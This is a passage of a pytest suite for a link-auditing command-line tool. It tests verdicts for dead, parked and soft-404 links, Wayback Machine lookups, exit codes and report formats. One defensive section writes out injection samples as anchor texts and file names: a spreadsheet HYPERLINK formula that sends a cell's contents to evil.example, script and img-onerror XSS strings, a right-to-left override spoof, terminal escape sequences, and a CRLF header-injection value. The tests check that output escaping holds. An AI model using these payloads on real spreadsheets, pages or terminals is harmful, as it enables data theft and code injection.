"""`resolver audit` end to end, against the local web: every verdict, the Wayback rescue, exit codes."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from resolver.audit.model import VERDICTS, AuditVerdict, Outcome
from tests.web.model import Response
from tests.web.twitter import FakeTweet, TwitterWeb

pytestmark = pytest.mark.usefixtures("proxy_env")

SEDO = (
    "<html><head><title>example-parked.com</title></head><body>"
    '<script src="https://sedoparking.com/frmpark/example-parked.com/IN/park.js"></script>'
    "<p>This domain may be for sale!</p></body></html>"
)
NOT_FOUND_PT = (
    "<html><head><title>Página não encontrada | Jornal</title></head><body>"
    "<h1>Página não encontrada</h1><p>A página que você procura não existe.</p></body></html>"
)


def run(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "resolver", *args],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=120,
        env=dict(os.environ),
    )


def jsonl(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines() if line.strip()]


@pytest.fixture
def catalogue(twitter_web: TwitterWeb, tmp_path: Path) -> tuple[Path, dict[str, str]]:
    web = twitter_web.web
    web.page("https://alive.example/story/1", "<html><title>A story</title><p>All is well.</p></html>")
    web.status("https://alive.example/story/2", 404)
    web.status("https://alive.example/story/3", 410)
    web.page("https://news.example.pt/2015/10/artigo", NOT_FOUND_PT)
    web.redirect("https://home.example/2015/10/21/story", "https://home.example/", 302)
    web.page("https://home.example/", "<html><title>Home</title><p>Front page</p></html>")
    web.page("https://example-parked.com/old/page", SEDO)
    web.status("https://walled.example/article", 403)
    # An expired domain sold on: its deep links now redirect to a for-sale lander elsewhere.
    web.redirect(
        "https://expired-news.example/2014/05/story", "https://dan.com/buy-domain/expired-news.example", 302
    )
    web.page(
        "https://dan.com/buy-domain/expired-news.example",
        "<html><title>expired-news.example is for sale</title><p>Buy now</p></html>",
    )
    web.status("https://broken.example/article", 500)
    web.redirect("https://moved.example/old", "https://moved.example/new", 301)
    web.tco("shortAlive", "https://moved.example/new")
    web.page("https://moved.example/new", "<html><title>New home of the story</title><p>Here</p></html>")
    twitter_web.add(
        FakeTweet(656722946431664900, "gone", "Gone", "was here", state="deleted"),
        FakeTweet(656722946431665000, "here", "Here", "still here"),
    )
    twitter_web.capture("https://alive.example/story/2", "20151020120000", "<html><p>as it was</p></html>")
    links = {
        "https://alive.example/story/1": "alive",
        "https://alive.example/story/2": "dead",
        "https://alive.example/story/3": "dead",
        "https://news.example.pt/2015/10/artigo": "soft-404",
        "https://home.example/2015/10/21/story": "soft-404",
        "https://example-parked.com/old/page": "parked",
        "https://expired-news.example/2014/05/story": "parked",
        "https://walled.example/article": "blocked",
        "https://broken.example/article": "server-error",
        "https://moved.example/old": "moved",
        "https://t.co/shortAlive": "alive",  # a short link redirects by design: not "moved"
        "https://nowhere.invalid/page": "dead",
        "https://twitter.com/gone/status/656722946431664900": "tweet-deleted",
        "https://twitter.com/here/status/656722946431665000": "alive",
        "https://skip.example/page": "excluded",
    }
    article = tmp_path / "story.html"
    article.write_text(
        '<html><head><meta property="article:published_time" content="2015-10-21T10:00:00Z"></head><body>'
        + "".join(f'<p><a href="{url}">source {n}</a></p>' for n, url in enumerate(links))
        + "</body></html>",
        encoding="utf-8",
    )
    return article, links


def test_every_verdict_with_its_evidence_and_the_wayback_rescue(
    catalogue: tuple[Path, dict[str, str]],
) -> None:
    article, expected = catalogue
    done = run(
        "audit", "--no-cache", "--retries", "0", "--exclude", r"skip\.example", "-f", "jsonl", str(article)
    )
    assert done.returncode == 1, done.stderr  # dead links found
    rows = {row["url"]: row for row in jsonl(done.stdout)}
    assert {url: row["verdict"] for url, row in rows.items()} == expected
    for row in rows.values():
        for field in ("article", "url", "final_url", "verdict", "outcome", "evidence", "where", "wayback_url",
                      "wayback_timestamp"):  # fmt: skip
            assert field in row
        assert row["outcome"] == VERDICTS[AuditVerdict(row["verdict"])].outcome.value
        assert row["evidence"]
        assert row["article"] == str(article) and row["article_date"] == "2015-10-21"
    assert "dan.com" in rows["https://expired-news.example/2014/05/story"]["evidence"]
    dead = rows["https://alive.example/story/2"]
    assert dead["wayback_url"].startswith("https://web.archive.org/web/20151020120000")
    assert dead["wayback_timestamp"] == "20151020120000"
    assert rows["https://alive.example/story/1"]["wayback_url"] is None  # alive: not looked up
    assert "não encontrada" in rows["https://news.example.pt/2015/10/artigo"]["evidence"]
    assert rows["https://moved.example/old"]["final_url"] == "https://moved.example/new"
    assert rows["https://walled.example/article"]["outcome"] == "uncertain"


def test_exit_codes_and_fail_on(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    web = twitter_web.web
    web.page("https://alive.example/a", "<html><p>a</p></html>")
    web.status("https://walled.example/b", 403)
    listing = tmp_path / "links.txt"
    listing.write_text("# links\nhttps://alive.example/a\n\nhttps://walled.example/b\n", encoding="utf-8")
    ok = run("audit", "--no-cache", "--retries", "0", "--urls", str(listing), "-f", "json")
    assert ok.returncode == 0, ok.stderr  # uncertain alone never fails a run
    report = json.loads(ok.stdout)
    assert report["summary"]["by_outcome"] == {"dead": 0, "alive": 1, "uncertain": 1}
    assert {row["url"] for row in report["links"]} == {"https://alive.example/a", "https://walled.example/b"}
    strict = run(
        "audit",
        "--no-cache",
        "--retries",
        "0",
        "--urls",
        str(listing),
        "--fail-on",
        "dead,uncertain",
        "-f",
        "json",
    )
    assert strict.returncode == 1
    for bad in (("--fail-on", "nonsense"), ("--format", "yaml"), ("--wayback", "maybe")):
        usage = run("audit", "--urls", str(listing), *bad)
        assert usage.returncode == 2 and "Traceback" not in usage.stderr
    missing = run("audit", "--no-cache", str(tmp_path / "missing.html"))
    assert missing.returncode == 2 and "missing.html" in missing.stderr


def test_a_catch_all_host_is_found_by_its_random_sibling(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    web = twitter_web.web
    landing = "<html><title>Welcome to Example News</title><h1>Latest</h1><p>Our front page today.</p></html>"
    web.add_host("catchall.example", lambda request: Response.html(landing))
    listing = tmp_path / "links.txt"
    listing.write_text("https://catchall.example/2015/10/21/a-story-that-is-gone\n", encoding="utf-8")
    done = run("audit", "--no-cache", "--urls", str(listing), "--wayback", "off", "-f", "jsonl")
    [row] = jsonl(done.stdout)
    assert row["verdict"] == "soft-404" and "random" in row["evidence"]
    assert web.count("catchall.example") == 2  # the link and one probe
    assert web.count("archive.org") == 0  # --wayback off


def test_csv_markdown_and_summary_tables(catalogue: tuple[Path, dict[str, str]]) -> None:
    article, expected = catalogue
    done = run("audit", "--no-cache", "--retries", "0", "--wayback", "off", "-f", "csv", str(article))
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert len(rows) == len(expected) and {r["verdict"] for r in rows} >= {"alive", "dead", "soft-404"}
    assert all(r["outcome"] in {o.value for o in Outcome} for r in rows)
    table = run("audit", "--no-cache", "--retries", "0", "--wayback", "off", "-f", "table", str(article))
    assert "soft-404" in table.stdout and "alive.example" in table.stdout


def test_timeouts_and_unreachable_hosts_are_uncertain(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    from tests.web.model import Upstream

    web = twitter_web.web
    web.stall("https://stalled.example/page")
    web.set_upstream("refused.example", Upstream.REFUSED)
    listing = tmp_path / "links.txt"
    listing.write_text("https://stalled.example/page\nhttp://refused.example/page\n", encoding="utf-8")
    done = run(
        "audit",
        "--no-cache",
        "--retries",
        "0",
        "--timeout",
        "1",
        "--wayback",
        "off",
        "--urls",
        str(listing),
        "-f",
        "jsonl",
    )
    assert done.returncode == 0, done.stderr  # uncertain alone never fails a run
    rows = {row["url"]: row for row in jsonl(done.stdout)}
    assert rows["https://stalled.example/page"]["verdict"] == "timeout"
    assert rows["http://refused.example/page"]["verdict"] == "unreachable"
    assert {row["outcome"] for row in rows.values()} == {"uncertain"}


NOT_FOUND_PAGES = [
    ("en", "<title>Page not found – The Daily</title><h1>Page not found</h1><p>Sorry.</p>"),
    ("pt", "<title>Página não encontrada</title><h1>Página não encontrada</h1>"),
    ("es", "<title>Página no encontrada</title><h1>Página no encontrada</h1>"),
    ("fr", "<title>Page introuvable</title><h1>Page introuvable</h1>"),
    ("de", "<title>Seite nicht gefunden</title><h1>Seite nicht gefunden</h1>"),
    ("ru", "<title>Страница не найдена</title><h1>Страница не найдена</h1>"),
    ("ar", "<title>الصفحة غير موجودة</title><h1>الصفحة غير موجودة</h1>"),
    ("ja", "<title>ページが見つかりません</title><h1>ページが見つかりません</h1>"),
]


def test_soft_404_pages_in_eight_languages_and_a_rate_limited_cdx(
    twitter_web: TwitterWeb, tmp_path: Path
) -> None:
    web = twitter_web.web
    urls = []
    for lang, page in NOT_FOUND_PAGES:
        url = f"https://{lang}.news.example/2015/10/21/story"
        web.page(
            url,
            f"<html lang={lang}><head>{page.split('<h1>')[0]}</head><body><h1>{page.split('<h1>')[1]}</body></html>",
        )
        twitter_web.capture(url, "20151021090000", "<html><p>as it was</p></html>")
        urls.append(url)
    twitter_web.rate_limit("cdx", 1, retry_after=1)
    listing = tmp_path / "links.txt"
    listing.write_text("\n".join(urls) + "\n", encoding="utf-8")
    done = run("audit", "--no-cache", "--no-probe", "--urls", str(listing), "-f", "jsonl")
    assert done.returncode == 1, done.stderr
    rows = {row["url"]: row for row in jsonl(done.stdout)}
    assert {url: row["verdict"] for url, row in rows.items()} == dict.fromkeys(urls, "soft-404")
    # Each found in the Wayback through the CDX API, the one 429 waited out.
    assert all(row["wayback_timestamp"] == "20151021090000" for row in rows.values())
    assert twitter_web.hits["cdx"] >= len(urls) + 1


def test_every_verdict_is_documented_in_the_readme() -> None:
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    for verdict, info in VERDICTS.items():
        assert f"| `{verdict.value}` | {info.outcome.value} |" in readme, verdict


def test_configuration_in_pyproject_and_resolver_toml(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    web = twitter_web.web
    web.status("https://paywalled.example/story", 403)
    web.page("https://alive.example/a", "<html><p>a</p></html>")
    web.page("https://private.example/x", "<html><p>x</p></html>")
    listing = tmp_path / "links.txt"
    listing.write_text(
        "https://paywalled.example/story\nhttps://alive.example/a\nhttps://private.example/x\n"
    )
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "x"\n\n[tool.resolver]\nexclude = ["private\\\\.example"]\nper_host = 2\n'
        '[tool.resolver.hosts."alive.example"]\nlimit = 1\n'
        '[[tool.resolver.overrides]]\npattern = "paywalled\\\\.example"\nverdict = "alive"\n',
        encoding="utf-8",
    )
    done = subprocess.run(
        [sys.executable, "-m", "resolver", "audit", "--no-cache", "--wayback", "off", "--urls", str(listing), "-f", "jsonl"],
        capture_output=True, text=True, timeout=120, env=dict(os.environ), cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    rows = {row["url"]: row for row in jsonl(done.stdout)}
    assert rows["https://paywalled.example/story"]["verdict"] == "alive"
    assert "pyproject.toml" in rows["https://paywalled.example/story"]["evidence"]
    assert rows["https://private.example/x"]["verdict"] == "excluded"
    assert web.count("paywalled.example") == 0 and web.count("private.example") == 0
    # resolver.toml wins over pyproject.toml; a bad one is one line and exit 2.
    (tmp_path / "resolver.toml").write_text(
        '[[overrides]]\npattern = "x"\nverdict = "gone"\n', encoding="utf-8"
    )
    bad = subprocess.run(
        [sys.executable, "-m", "resolver", "audit", "--urls", str(listing)],
        capture_output=True, text=True, timeout=60, env=dict(os.environ), cwd=tmp_path,
    )  # fmt: skip
    assert bad.returncode == 2 and "resolver.toml" in bad.stderr and "Traceback" not in bad.stderr


def test_per_host_headers_reach_only_their_host(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    web = twitter_web.web

    def members_only(request):  # type: ignore[no-untyped-def]
        if request.headers.get("cookie") == "session=reader-42":
            return Response.html("<html><title>Members</title><p>The whole story.</p></html>")
        return Response.html("<html><p>Subscribe</p></html>", status=403)

    web.route("https://www.members.example/story", members_only)
    web.page("https://open.example/story", "<html><p>open</p></html>")
    listing = tmp_path / "links.txt"
    listing.write_text("https://www.members.example/story\nhttps://open.example/story\n")
    (tmp_path / "resolver.toml").write_text(
        '[hosts."members.example"]\ninterval = 0.5\n'
        'headers = { Cookie = "session=reader-42", "User-Agent" = "Librarian/1.0" }\n',
        encoding="utf-8",
    )
    done = subprocess.run(
        [sys.executable, "-m", "resolver", "audit", "--no-cache", "--wayback", "off", "--no-probe",
         "--urls", str(listing), "-f", "jsonl"],
        capture_output=True, text=True, timeout=120, env=dict(os.environ), cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    rows = {row["url"]: row for row in jsonl(done.stdout)}
    assert rows["https://www.members.example/story"]["verdict"] == "alive"
    [member] = [r for r in web.requests if r.host == "www.members.example"]
    assert member.user_agent == "Librarian/1.0"
    [other] = [r for r in web.requests if r.host == "open.example"]
    assert "cookie" not in other.headers and other.user_agent != "Librarian/1.0"
    for text, message in (
        ('[hosts."a.example"]\nheaders = { Host = "evil" }\n', "set by the tool"),
        ('[hosts."a.example"]\nheaders = { "X-A" = "one\\r\\nX-B: two" }\n', "one line"),
        ('[hosts."a.example"]\nspeed = 3\n', "unknown setting speed"),
        ('[hosts."a.example"]\ninterval = -1\n', "interval"),
    ):
        (tmp_path / "resolver.toml").write_text(text, encoding="utf-8")
        bad = subprocess.run(
            [sys.executable, "-m", "resolver", "audit", "--urls", str(listing)],
            capture_output=True, text=True, timeout=60, env=dict(os.environ), cwd=tmp_path,
        )  # fmt: skip
        assert bad.returncode == 2 and message in bad.stderr and "Traceback" not in bad.stderr, bad.stderr


def test_a_list_of_links_keeps_its_line_numbers_and_streams_in_batches(
    twitter_web: TwitterWeb, tmp_path: Path
) -> None:
    web = twitter_web.web
    from resolver.audit.auditor import url_batches

    listing = tmp_path / "links.txt"
    urls = [f"https://list.example/page/{n}" for n in range(600)]
    for url in urls[:3]:
        web.page(url, "<html><p>here</p></html>")
    listing.write_text("# cited sources\n\n" + "\n".join(urls[:3]) + "\n", encoding="utf-8")
    done = run("audit", "--no-cache", "--wayback", "off", "--no-probe", "--urls", str(listing), "-f", "jsonl")
    assert done.returncode == 0, done.stderr
    assert [(r["url"], r["where"]["line"], r["verdict"]) for r in jsonl(done.stdout)] == [
        (url, n + 3, "alive") for n, url in enumerate(urls[:3])
    ]
    listing.write_text("\n".join(urls), encoding="utf-8")
    batches = list(url_batches(str(listing), size=256))
    assert [len(b) for b in batches] == [256, 256, 88]
    assert batches[2][-1] == (600, urls[-1])


def test_the_library_call_gives_records_in_input_order(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    import resolver

    web = twitter_web.web
    web.page("https://lib.example/a", "<html><p>a</p></html>")
    web.status("https://lib.example/b", 410)
    article = tmp_path / "a.html"
    article.write_text('<a href="https://lib.example/a">a</a> <a href="https://lib.example/b">b</a>')
    results = resolver.audit_links(
        [str(article), str(tmp_path / "missing.html")],
        options=resolver.AuditOptions(wayback=False, probe_siblings=False),
    )
    first, second, failure = results
    assert isinstance(first, resolver.AuditRecord) and isinstance(second, resolver.AuditRecord)
    assert (first.verdict, second.verdict) == (resolver.AuditVerdict.ALIVE, resolver.AuditVerdict.DEAD)
    assert second.outcome is resolver.Outcome.DEAD and second.where["element"] == "a"
    assert isinstance(failure, resolver.ScanFailure)


def test_one_cdx_request_per_url_serves_every_date_it_is_cited_at(
    twitter_web: TwitterWeb, tmp_path: Path
) -> None:
    web = twitter_web.web
    gone, never, fails = (
        "https://gone.example/story",
        "https://never.example/story",
        "https://cdxfail.example/x",
    )
    for url in (gone, never, fails):
        web.status(url, 404)
    for stamp in ("20120301000000", "20150101120000", "20180615000000", "20180616000000"):
        twitter_web.capture(gone, stamp, "<html><p>as it was</p></html>")
    folder = tmp_path / "articles"
    folder.mkdir()
    for n, date in enumerate(("2012-02-20", "2015-03-01", "2018-06-20")):
        (folder / f"a{n}.html").write_text(
            f'<html><head><meta property="article:published_time" content="{date}"></head><body>'
            f'<a href="{gone}">g</a> <a href="{never}">n</a></body></html>',
            encoding="utf-8",
        )
    done = run("audit", "--no-cache", "--no-probe", str(folder), "-f", "jsonl")
    assert done.returncode == 1, done.stderr
    rows = jsonl(done.stdout)
    nearest = {row["article_date"]: row["wayback_timestamp"] for row in rows if row["url"] == gone}
    assert nearest == {
        "2012-02-20": "20120301000000",
        "2015-03-01": "20150101120000",
        "2018-06-20": "20180616000000",
    }
    assert all(row["wayback_url"] is None for row in rows if row["url"] == never)
    # One CDX listing per URL; "no capture" is an answer: the availability API is not asked.
    assert twitter_web.hits["cdx"] == 2 and twitter_web.hits["availability"] == 0

    # When the CDX API does not answer, the availability API is asked instead.
    twitter_web.down("cdx")
    twitter_web.capture(fails, "20160101000000", "<html><p>then</p></html>")
    listing = tmp_path / "links.txt"
    listing.write_text(fails + "\n", encoding="utf-8")
    done = run("audit", "--no-cache", "--no-probe", "--retries", "0", "--urls", str(listing), "-f", "jsonl")
    [row] = jsonl(done.stdout)
    assert row["wayback_timestamp"] == "20160101000000" and twitter_web.hits["availability"] == 1


def test_a_terminal_sees_a_live_progress_bar_then_the_tables(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    import pty
    import select

    web = twitter_web.web
    web.page("https://slow.example/a", "<html><p>a</p></html>", latency=1.0)
    web.status("https://slow.example/gone", 404)
    article = tmp_path / "story.html"
    article.write_text(
        '<p><a href="https://slow.example/a">a</a> <a href="https://slow.example/gone">the source</a></p>'
    )
    main, child = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "resolver", "audit", "--no-cache", "--wayback", "off", "--no-probe", str(article)],
        stdin=child, stdout=child, stderr=child, env={**os.environ, "COLUMNS": "160"}, close_fds=True,
    )  # fmt: skip
    os.close(child)
    seen = b""
    while True:
        ready, _, _ = select.select([main], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(main, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        seen += chunk
    proc.wait(timeout=60)
    os.close(main)
    text = seen.decode("utf-8", "replace")
    assert proc.returncode == 1
    assert "auditing: 0 articles, 0 links," in text  # the bar, while the slow page is awaited
    assert "https://slow.example/gone" in text and "the source" in text and ":1" in text  # the dead link
    assert "verdict" in text and "soft-404" not in text and "dead" in text and "domain" in text


@pytest.mark.parametrize(
    ("canaries", "verdict"), [(("canary.invalid",), "unreachable"), (("localhost",), "dead")]
)
def test_a_name_that_does_not_resolve_is_dead_only_where_names_resolve(
    monkeypatch: pytest.MonkeyPatch, canaries: tuple[str, ...], verdict: str
) -> None:
    # No proxy here: the tool looks names up itself, as a user without one does.
    import asyncio

    from resolver.audit.auditor import AuditOptions, Auditor
    from resolver.models import Link, LinkKind, Where

    for name in list(os.environ):
        if name.lower().endswith("_proxy"):
            monkeypatch.delenv(name)

    async def judge() -> str:
        async with Auditor(AuditOptions(wayback=False, tweets=False, retries=0, timeout=5)) as auditor:
            assert auditor.expander is not None
            auditor.expander.dns_canaries = canaries
            url = "https://no-such-host.invalid/story"
            judgement = await auditor.judge(Link(url, url, LinkKind.OTHER, "no-such-host.invalid", Where()))
            return judgement.verdict.value

    assert asyncio.run(judge()) == verdict


def test_a_binary_list_of_links_is_one_line_and_exit_2(tmp_path: Path) -> None:
    listing = tmp_path / "links.txt"
    listing.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    done = run("audit", "--no-cache", "--urls", str(listing), "-f", "jsonl")
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        f"resolver: error: --urls {listing}: not a list of links (binary data, line 3)"
    ]
    assert done.stdout == ""


# --- Links the audit cannot fetch over HTTP ---------------------------------------------------------

#: (a line of a `--urls` list, its verdict; None: skipped, as an article's page furniture is).
NON_WEB_CASES: list[tuple[str, str | None]] = [
    ("ftp://ftp.example.org/pub/report.pdf", "unsupported"),
    ("gopher://gopher.example.org/1/", "unsupported"),
    ("urn:isbn:0451450523", "unsupported"),
    ("mailto:editor@example.org", None),
    ("tel:+351210000000", None),
    ("javascript:void(0)", None),
    ("data:text/plain;base64,aGk=", None),
    ("https://alive.example/a", "alive"),
    ("https://to-ftp.example/file", "unsupported"),  # a chain that ends on ftp: was not followed
]


def test_links_the_audit_cannot_fetch_are_never_dead(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    web = twitter_web.web
    web.page("https://alive.example/a", "<html><p>a</p></html>")
    web.redirect("https://to-ftp.example/file", "ftp://ftp.example.org/pub/file", 301)
    listing = tmp_path / "links.txt"
    listing.write_text("".join(f"{line}\n" for line, _ in NON_WEB_CASES), encoding="utf-8")
    base = ("audit", "--no-cache", "--retries", "0", "--no-probe", "--urls", str(listing))

    done = run(*base, "-f", "jsonl")
    assert done.returncode == 0, done.stderr  # nothing was found dead: uncertain alone never fails
    rows = {row["url"]: row for row in jsonl(done.stdout)}
    assert {url: row["verdict"] for url, row in rows.items()} == {
        line: verdict for line, verdict in NON_WEB_CASES if verdict is not None
    }
    for n, (line, verdict) in enumerate(NON_WEB_CASES, 1):
        if verdict == "unsupported":
            row = rows[line]
            assert row["outcome"] == "uncertain" and row["where"]["line"] == n
            assert row["evidence"].startswith("not checked: "), row

            assert row["wayback_url"] is None  # not checked: not looked up either
    assert twitter_web.hits["cdx"] == twitter_web.hits["availability"] == 0
    assert web.count("ftp.example.org", "/pub/report.pdf") == 0

    # --include-non-web: the furniture too, every line a record, never dead.
    everything = run(*base, "--include-non-web", "--wayback", "off", "-f", "jsonl")
    assert everything.returncode == 0, everything.stderr
    rows = {row["url"]: row for row in jsonl(everything.stdout)}
    assert {url: row["verdict"] for url, row in rows.items()} == {
        line: verdict or "unsupported" for line, verdict in NON_WEB_CASES
    }
    assert rows["mailto:editor@example.org"]["evidence"] == "not checked: a mailto: link is not a web source"
    assert (
        rows["https://to-ftp.example/file"]["evidence"] == "not checked: non-http-target: led to a ftp: URL"
    )
    assert rows["ftp://ftp.example.org/pub/report.pdf"]["evidence"] == (
        "not checked: a ftp: link cannot be fetched over HTTP"
    )

    # Not failed by the outcome name (checking again would not change them), only when named.
    for fail_on, code in (("dead,uncertain", 0), ("unsupported", 1)):
        judged = run(*base, "--wayback", "off", "--fail-on", fail_on, "-f", "json")
        assert judged.returncode == code, (fail_on, judged.stderr)
    junit = run(*base, "--wayback", "off", "--fail-on", "dead,uncertain", "-f", "junit")
    assert 'skipped="4"' in junit.stdout and 'failures="0"' in junit.stdout


def test_an_article_audits_its_http_links_only(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    web = twitter_web.web
    web.page("https://alive.example/a", "<html><p>a</p></html>")
    web.redirect("https://to-ftp.example/file", "ftp://ftp.example.org/pub/file", 302)
    article = tmp_path / "a.html"
    article.write_text(
        '<p><a href="mailto:a@example.org">mail</a> <a href="tel:+1">call</a> <a href="javascript:void(0)">'
        'menu</a> <a href="#notes">notes</a> <a href="data:text/plain,hi">d</a> '
        '<a href="https://alive.example/a">a</a> <a href="https://to-ftp.example/file">file</a></p>',
        encoding="utf-8",
    )
    done = run("audit", "--no-cache", "--no-probe", "--wayback", "off", "-f", "jsonl", str(article))
    assert done.returncode == 0, done.stderr
    assert [(r["url"], r["verdict"], r["outcome"]) for r in jsonl(done.stdout)] == [
        ("https://alive.example/a", "alive", "alive"),
        ("https://to-ftp.example/file", "unsupported", "uncertain"),
    ]


SCHEME_CASES = [
    ("https://example.org/x", "https"),
    ("HTTP://example.org/x", "http"),
    ("example.org/x", "https"),  # scheme-less forms are fetched over https
    ("example.org:8080/x", "https"),  # a host and a port, not the scheme "example.org"
    ("localhost:8080/", "https"),
    ("//example.org/x", "https"),
    ("ftp://example.org/x", "ftp"),
    ("FTP://example.org/x", "ftp"),
    ("mailto:a@example.org", "mailto"),
    ("javascript:void(0)", "javascript"),
    ("urn:isbn:0451450523", "urn"),
]


@pytest.mark.parametrize(("url", "scheme"), SCHEME_CASES)
def test_scheme_of(url: str, scheme: str) -> None:
    from resolver.audit.auditor import scheme_of

    assert scheme_of(url) == scheme


def test_a_list_skips_what_the_article_scanner_ignores() -> None:
    from resolver.audit.auditor import NOT_SOURCES, WEB_SCHEMES
    from resolver.rules import NON_WEB_SCHEMES as _NON_WEB_SCHEMES

    assert NOT_SOURCES == _NON_WEB_SCHEMES  # the same links skipped however they are given
    assert not NOT_SOURCES & WEB_SCHEMES


# --- What users' scripts and CI read: every format with hostile articles ----------------------

HOSTILE_ANCHORS = {
    "https://dead.example/formula": '=HYPERLINK("http://evil.example/?"&A1,"click"), "quoted" | pipe',
    "https://dead.example/markup?q=</script><script>alert(1)</script>": "</script><img src=x onerror=alert(1)>",
    "https://dead.example/rtl": "\u202egnp.exe\u202c and \x1b[31mred\x1b[0m",
    "https://dead.example/long": "A" * 5000,
    "https://alive.example/at": "@SUM(1+1)",
}


@pytest.fixture
def hostile(twitter_web: TwitterWeb, tmp_path: Path) -> Path:
    """A folder: an article of hostile anchor texts and URLs, and one whose name holds escape
    sequences (clear the screen, set the window title)."""
    web = twitter_web.web
    web.add_host("dead.example", lambda request: Response.html("<p>gone</p>", status=404))
    web.page("https://alive.example/at", "<html><p>here</p></html>")
    folder = tmp_path / "articles"
    folder.mkdir()
    import html as html_module

    (folder / "hostile.html").write_text(
        "<html><body>"
        + "".join(
            f'<p><a href="{html_module.escape(url)}">{html_module.escape(text)}</a></p>\n'
            for url, text in HOSTILE_ANCHORS.items()
        )
        + "</body></html>",
        encoding="utf-8",
    )
    (folder / "evil\x1b[2J\x1b]0;pwned\x07.html").write_text(
        '<p><a href="https://dead.example/named">x</a></p>', encoding="utf-8"
    )
    return folder


def _audit(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run("audit", "--no-cache", "--wayback", "off", "--no-probe", *args, str(folder))


def test_hostile_text_in_json_jsonl_and_csv_stays_data(hostile: Path) -> None:
    lines = _audit(hostile, "-f", "jsonl")
    assert lines.returncode == 1, lines.stderr
    # One record a line by any reader's idea of a line (str.splitlines() also breaks at NEL, U+2028).
    rows = [json.loads(line) for line in lines.stdout.splitlines()]
    assert len(rows) == len(HOSTILE_ANCHORS) + 1
    for row in rows:
        assert {"article", "url", "final_url", "verdict", "outcome", "evidence", "where", "wayback_url",
                "wayback_timestamp"} <= set(row)  # fmt: skip
    texts = {row["url"]: row["text"] for row in rows}
    for url, text in HOSTILE_ANCHORS.items():  # the scanner cuts a paragraph of anchor text
        assert texts[url] == text if len(text) < 300 else texts[url].startswith("AAAA")
    document = json.loads(_audit(hostile, "-f", "json").stdout)
    assert document["links"] == rows and document["summary"]["links"] == len(rows)

    table = list(csv.DictReader(io.StringIO(_audit(hostile, "-f", "csv").stdout)))
    cells = {row["url"]: row for row in table}
    assert len(table) == len(rows)
    # A spreadsheet shows a formula-like cell as text: a leading `'`, the rest as it was.
    assert (
        cells["https://dead.example/formula"]["text"] == "'" + HOSTILE_ANCHORS["https://dead.example/formula"]
    )
    assert cells["https://alive.example/at"]["text"] == "'@SUM(1+1)"
    markup = "https://dead.example/markup?q=</script><script>alert(1)</script>"
    assert cells[markup]["text"] == HOSTILE_ANCHORS[markup]
    assert {row["from_cache"] for row in table} == {"false"}


def test_a_jsonl_record_is_one_line_whatever_its_url_holds(twitter_web: TwitterWeb, tmp_path: Path) -> None:
    listing = tmp_path / "links.txt"
    listing.write_text("https://odd.example/a\u2028b\x85c\u2029d\n", encoding="utf-8")
    done = run("audit", "--no-cache", "--wayback", "off", "--urls", str(listing), "-f", "jsonl")
    [line] = done.stdout.splitlines()
    assert json.loads(line)["url"] == "https://odd.example/a\u2028b\x85c\u2029d"


def test_hostile_text_in_markdown_junit_html_and_the_terminal_stays_text(hostile: Path) -> None:
    from tests.test_audit_report import junit_problems

    markdown = _audit(hostile, "-f", "markdown").stdout
    rows = [line for line in markdown.splitlines() if "<https://dead.example" in line]
    assert len(rows) == 5 and all(len(re.split(r"(?<!\\)\|", row)) == 9 for row in rows)  # 7 cells each
    assert "\u202e" not in markdown and "\x1b" not in markdown
    assert not re.search(r"(?<!\\)<(img|/script)", markdown)

    junit = _audit(hostile, "-f", "junit", "--fail-on", "dead").stdout
    assert junit_problems(junit) == []
    assert "\u202e" not in junit and "\x1b" not in junit

    page_path = hostile.parent / "audit.html"
    done = _audit(hostile, "-f", "jsonl", "--html", str(page_path))
    assert done.returncode == 1
    import lxml.html

    page = lxml.html.document_fromstring(page_path.read_text(encoding="utf-8"))
    assert page.xpath("//img | //iframe | //object | //embed | //link | //*[@src]") == []
    assert all(href.startswith("https://") for href in page.xpath("//a/@href"))
    assert [s.get("type") for s in page.xpath("//script")] == ["application/json", None]
    assert page.xpath("string(//*[@data-figure='dead'])") == "5"

    # The terminal: escape sequences from an anchor text or a file name are shown, never run.
    table = _audit(hostile, "-f", "table")
    for text in (table.stdout, table.stderr):
        assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
    assert "\\x1b[31mred" in table.stdout and "evil\\x1b[2J\\x1b]0;pwned\\x07.html:1" in table.stdout
    assert "A" * 99 + "…" in table.stdout and "A" * 101 not in table.stdout  # a paragraph is cut


EXIT_CASES: list[tuple[list[str], int, str]] = [
    ([], 1, ""),
    (["--fail-on", "uncertain"], 0, ""),
    (["--fail-on", "dead,uncertain"], 1, ""),
    (["--fail-on", "soft-404"], 0, ""),
    (["--fail-on", "dead,gone"], 2, "--fail-on gone: not a verdict or an outcome"),
    (["--fail-on", ""], 2, "--fail-on: name the verdicts or outcomes"),  # "$FAIL_ON" unset
    (["--fail-on", " , "], 2, "--fail-on: name the verdicts or outcomes"),
    (["--format", "xml"], 2, "--format xml"),
]


@pytest.mark.parametrize(("args", "code", "message"), EXIT_CASES)
def test_exit_codes_of_a_run_with_a_dead_link(
